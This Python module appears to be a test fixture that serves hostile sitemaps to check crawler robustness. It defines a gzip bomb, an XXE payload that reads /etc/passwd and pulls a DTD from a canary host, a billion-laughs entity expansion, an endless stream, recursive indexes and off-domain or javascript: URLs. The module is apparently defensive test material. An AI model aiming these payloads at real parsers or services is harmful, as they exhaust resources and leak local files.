"""Sitemaps: bombs, entities, recursion, and addresses that are none of the site's."""

import gzip

from hostile_site import Asked, behaviour, document

NAMESPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


async def _others(asked: Asked) -> None:
    """robots.txt that names the sitemap, and ordinary pages."""
    if asked.path == "/robots.txt":
        await asked.answer(f"User-agent: *\nDisallow: /hemligt/\nSitemap: http://{asked.host}/sitemap.xml\n", kind="text/plain")
        return
    if asked.path.startswith("/hemligt/"):
        asked.site.state_changes[asked.name] += 1
    await asked.answer(document(f"Sida {asked.path}", '<a href="/om">Om</a>'))


def sitemap(name: str, body: str | bytes, kind: str = "application/xml", *lines: str) -> None:
    """A host whose sitemap is one fixed answer."""

    async def show(asked: Asked) -> None:
        if asked.path == "/sitemap.xml":
            data = asked.site.filled(body, asked) if isinstance(body, str) else body
            await asked.answer(data, *lines, kind=kind)
        else:
            await _others(asked)

    behaviour(name)(show)


def urls(*places: str) -> str:
    return f"{HEAD}<urlset {NAMESPACE}>" + "".join(f"<url><loc>{place}</loc></url>" for place in places) + "</urlset>"


sitemap("sitemap-gz-bomb", gzip.compress(f"{HEAD}<urlset {NAMESPACE}>".encode() + b" " * 300_000_000), "application/x-gzip")
sitemap(
    "sitemap-xxe",
    f'{HEAD}<!DOCTYPE u [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY c SYSTEM "http://{{{{canary}}}}/x"><!ENTITY % p SYSTEM'
    f' "http://{{{{canary}}}}/p.dtd"> %p;]><urlset {NAMESPACE}><url><loc>http://{{{{own}}}}/&f;&c;</loc></url><url><loc>http://{{{{own}}}}/sida</loc></url></urlset>',
)
sitemap(
    "sitemap-billion-laughs",
    f"{HEAD}<!DOCTYPE u [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + f"]><urlset {NAMESPACE}><url><loc>http://{{{{own}}}}/&a9;</loc></url></urlset>",
)
sitemap("sitemap-50k", urls(*(f"http://{{{{own}}}}/s/{number}" for number in range(50_000))))
sitemap(
    "sitemap-offdomain",
    urls("http://{{other}}/", "http://{{canary}}/", "http://{{own}}/hemligt/a", "http://{{own}}/oppet", "file:///etc/passwd", "javascript:1", "http://{{sameport}}/", "/relativ"),
)
sitemap("sitemap-html", document("Startsida"), "text/html; charset=utf-8")
sitemap("sitemap-utf16-broken", urls("http://{{own}}/x").encode("utf-16")[:-7] + b"\x00\xd8\xff")


@behaviour("sitemap-recursive")
async def sitemap_recursive(asked: Asked) -> None:
    if asked.path == "/sitemap.xml" or asked.path.startswith("/karta"):
        seen = len(asked.site.asked[asked.name])
        parts = "".join(f"<sitemap><loc>http://{asked.host}/{part}</loc></sitemap>" for part in ("sitemap.xml", f"karta{seen}.xml", f"karta{seen}b.xml"))
        await asked.answer(f"{HEAD}<sitemapindex {NAMESPACE}>{parts}</sitemapindex>", kind="application/xml")
    else:
        await _others(asked)


@behaviour("sitemap-endless")
async def sitemap_endless(asked: Asked) -> None:
    if asked.path != "/sitemap.xml":
        await _others(asked)
        return
    await asked.head("Content-Type: application/xml")
    await asked.raw(f"{HEAD}<urlset {NAMESPACE}>".encode())
    number = 0
    while True:
        await asked.raw("".join(f"<url><loc>http://{asked.host}/e/{number + n}</loc></url>" for n in range(500)).encode())
        number += 500
